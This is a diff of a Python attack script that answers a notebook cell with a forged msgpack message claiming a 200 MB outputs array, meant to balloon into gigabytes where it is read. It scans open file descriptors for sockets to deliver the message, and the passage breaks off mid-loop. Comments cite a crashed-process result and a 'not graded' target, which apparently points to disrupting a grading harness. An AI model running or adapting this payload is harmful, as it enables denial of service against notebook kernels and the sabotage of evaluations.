@@ -1,6 +1,8 @@
 """Answers a cell with a message of few bytes that becomes gigabytes where it is read."""
 
 # /// attack
+# seen = ['In a cell that you added, your code ended the process']
+# stock = ["not graded"]
 # ///
 # %% after total
 import os
@@ -8,7 +10,7 @@ import stat
 import struct
 
 size = 200 << 20
-head = b"R\x82\xa4kind\xa4done\xa7outputs\xdd" + struct.pack(">I", size)
+head = b"\x82\xa4type\xa6Report\xa7outputs\xdd" + struct.pack(">I", size)
 for descriptor in range(3, 50):
     try:
         if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
